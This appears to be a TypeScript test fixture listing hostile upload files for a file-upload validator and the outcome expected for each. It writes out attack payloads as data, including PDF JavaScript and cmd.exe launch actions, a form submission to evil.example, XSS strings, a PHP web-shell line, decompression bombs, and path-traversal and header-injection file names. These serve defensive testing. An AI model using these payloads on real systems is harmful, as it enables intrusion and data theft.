// Hostile files, each with its expected outcome. They are built from bytes here, and none is harmful in
// itself.
import { deflateSync } from 'node:zlib';
import { pdf, pdfStream, png } from './files.ts';

/**
 * `refused`: words of the reason. `inert`: stored under this name, and served only as a download of this
 * type.
 */
export type Hostile = {
  what: string;
  name: string;
  content: () => Buffer;
  refused?: RegExp;
  inert?: { name: string; type: string };
};

const MIB = 1024 * 1024;
// In two halves, because an antivirus would remove this file from a checkout.
const EICAR = Buffer.from(
  ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD', 'ANTIVIRUS-TEST-FILE!$H+H*'].join('-'),
);
const HTML = Buffer.from('<!doctype html><script>alert(document.cookie)</script>');
const ZIP = Buffer.from('PK\x03\x04evil.class and PK\x05\x06'.padEnd(80, '\0'), 'latin1');

const objectStream = (objects: string | Buffer) =>
  pdfStream('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', deflateSync(objects));

/** A GIF of this screen size with a number of frames of another size, without pixels. */
function gif(screen: number, { frames = 1, frame = 1, end = true } = {}): Buffer {
  const sides = (side: number) => Buffer.from([side & 255, side >> 8, side & 255, side >> 8]);
  const one = Buffer.concat([Buffer.from([0x2c, 0, 0, 0, 0]), sides(frame), Buffer.from([0, 2, 1, 0, 0])]);
  return Buffer.concat([
    Buffer.from('GIF89a'),
    sides(screen),
    Buffer.from([0, 0, 0]),
    ...Array.from({ length: frames }, () => one),
    Buffer.from(end ? [0x3b] : []),
  ]);
}

/** A JPEG of this size; `segments` precede its picture. */
function jpeg(side: number, { segments = Buffer.alloc(0), frame = true, end = true } = {}): Buffer {
  const size = [side >> 8, side & 255, side >> 8, side & 255];
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    segments,
    Buffer.from(frame ? [0xff, 0xc0, 0, 11, 8, ...size, 1, 1, 0x11, 0] : [0xff, 0xfe, 0, 4, 0, 0]),
    Buffer.from([0xff, 0xda, 0, 8, 1, 1, 0, 0, 0x3f, 0, 0x55]),
    Buffer.from(end ? [0xff, 0xd9] : []),
  ]);
}

const join = (...parts: (Buffer | string)[]) =>
  Buffer.concat(parts.map((part) => Buffer.from(part as string)));
const ACTIVE = /scripts or carries other files/;
const DAMAGED = /damaged or cut short/;
const PIXELS = /40 megapixels/;
const OTHER = /content is not what the name says/;
const TYPE = /^Choose a pdf, png, gif or jpeg file\.$/;
const refused = (what: string, name: string, content: () => Buffer, words: RegExp): Hostile => ({
  what,
  name,
  content,
  refused: words,
});
const inert = (what: string, name: string, content: () => Buffer, type: string, kept = name): Hostile => ({
  what,
  name,
  content,
  inert: { name: kept, type },
});

const PDFS: Hostile[] = [
  refused(
    'a script at opening',
    'a.pdf',
    () => pdf('<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>'),
    ACTIVE,
  ),
  refused('a script under a disguised name', 'a.pdf', () => pdf('<</S/J#61va#53cript/#4AS(x)>>'), ACTIVE),
  refused('a script in an object stream', 'a.pdf', () => pdf(objectStream('1 0 <</S/JavaScript>>')), ACTIVE),
  refused('an embedded file', 'a.pdf', () => pdf('<</Names<</EmbeddedFiles 7 0 R>>>>'), ACTIVE),
  refused('a program to launch', 'a.pdf', () => pdf('<</S/Launch/Win<</F(cmd.exe)>>>>'), ACTIVE),
  refused(
    'a form that sends itself',
    'a.pdf',
    () => pdf('<</S/SubmitForm/F(https://evil.example)>>'),
    ACTIVE,
  ),
  refused('an XFA form', 'a.pdf', () => pdf('<</AcroForm<</XFA 8 0 R>>>>'), ACTIVE),
  refused('rich media', 'a.pdf', () => pdf('<</Subtype/RichMedia>>'), ACTIVE),
  refused('a password', 'a.pdf', () => pdf('trailer<</Encrypt 5 0 R>>'), /protected by a password/),
  refused(
    'a password in its cross-reference',
    'a.pdf',
    () => pdf(pdfStream('/Type/XRef/Encrypt 5 0 R', ZIP)),
    /password/,
  ),
  refused('nothing but a head', 'a.pdf', () => Buffer.from('%PDF-1.7\n'), DAMAGED),
  refused('a stream that never ends', 'a.pdf', () => pdf('9 0 obj <<>> stream\nfor ever'), DAMAGED),
  refused('objects that unpack to 64 MiB', 'a.pdf', () => pdf(objectStream(Buffer.alloc(64 * MIB))), DAMAGED),
  refused(
    'a bomb in many pieces',
    'a.pdf',
    () => {
      const piece = objectStream(Buffer.alloc(7 * MIB, ' '));
      return pdf(...Array.from({ length: 200 }, () => piece));
    },
    DAMAGED,
  ),
  refused(
    'object streams without number',
    'a.pdf',
    () => {
      const piece = objectStream('1 0 null');
      return pdf(...Array.from({ length: 60_000 }, () => piece));
    },
    DAMAGED,
  ),
  inert(
    'streams without number',
    'a.pdf',
    () => pdf(Buffer.from('stream\nendstream\n'.repeat(600_000))),
    'application/pdf',
  ),
  inert('names without number', 'a.pdf', () => pdf(Buffer.from('/#41'.repeat(2_500_000))), 'application/pdf'),
  inert('the antivirus test file inside', 'a.pdf', () => pdf(pdfStream('', EICAR)), 'application/pdf'),
];
const PICTURES: Hostile[] = [
  refused('a PNG of 65535 × 65535', 'a.png', () => png(65_535, 65_535), PIXELS),
  refused('a PNG of four thousand million each way', 'a.png', () => png(2 ** 32 - 1, 2 ** 32 - 1), PIXELS),
  refused('a PNG without a size', 'a.png', () => png(0, 10), DAMAGED),
  refused('a PNG cut short', 'a.png', () => png().subarray(0, -8), DAMAGED),
  inert('a PNG and a page', 'a.png', () => join(png(), HTML), 'image/png'),
  inert('a PNG and an archive', 'a.png', () => join(png(), ZIP), 'image/png'),
  refused('a GIF of 65535 × 65535', 'a.gif', () => gif(65_535), PIXELS),
  refused(
    'a GIF of frames without number',
    'a.gif',
    () => gif(1_000, { frames: 500_000, frame: 1_000 }),
    PIXELS,
  ),
  refused('a GIF without an end', 'a.gif', () => gif(1, { end: false }), DAMAGED),
  refused(
    'a GIF that is a script',
    'a.gif',
    () => Buffer.from('GIF89a/*\x01\x01\x00,*/=1;alert(1)//;'),
    DAMAGED,
  ),
  refused('a JPEG of 65500 × 65500', 'a.jpg', () => jpeg(65_500), PIXELS),
  refused('a JPEG without a picture', 'a.jpg', () => jpeg(1, { frame: false }), DAMAGED),
  refused('a JPEG cut short', 'a.jpg', () => jpeg(1, { end: false }), DAMAGED),
  inert(
    'a JPEG and a program',
    'a.jpeg',
    () => join(jpeg(2), '<?php system($_GET[1]); ?>', ZIP),
    'image/jpeg',
  ),
  inert(
    'a JPEG with a page in its comment',
    'a.JPG',
    () => {
      const comment = Buffer.from([0xff, 0xfe, 0, HTML.length + 2]);
      return jpeg(2, { segments: join(comment, HTML) });
    },
    'image/jpeg',
  ),
];
const OTHERS: Hostile[] = [
  refused(
    'a drawing renamed',
    'a.png',
    () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    OTHER,
  ),
  refused('a page renamed', 'a.pdf', () => HTML, OTHER),
  refused('a page', 'a.html', () => HTML, TYPE),
  refused('an archive renamed', 'a.pdf', () => ZIP, OTHER),
  refused(
    'a program renamed',
    'a.jpeg',
    () => Buffer.from('MZ\x90\x00This program cannot be run in DOS mode'),
    OTHER,
  ),
  refused('a picture of another kind', 'a.pdf', () => png(), OTHER),
  refused('the antivirus test file', 'eicar.gif', () => EICAR, OTHER),
  refused('two endings', 'passport.pdf.exe', () => pdf(), TYPE),
  refused('nothing', 'a.png', () => Buffer.alloc(0), /This file is empty/),
  refused('one byte over 10 MiB', 'a.pdf', () => Buffer.alloc(10 * MIB + 1), /larger than 10 MB/),
];
const NAMES: Hostile[] = [
  inert('a name that climbs', '../../x.png', png, 'image/png', 'x.png'),
  refused('a name with line breaks', 'a\r\nset-cookie: x=1\r\n.png', png, /a name without line breaks/),
  inert('a name that reads backwards', 'x\u202egnp.exe.png', png, 'image/png', 'xgnp.exe.png'),
  inert('a name of markup', '"><img src=x onerror=alert(1)>.png', png, 'image/png'),
];

/** All except those of 100 MB, which no test should hold in memory. */
export const HOSTILE: readonly Hostile[] = [...PDFS, ...PICTURES, ...OTHERS, ...NAMES];
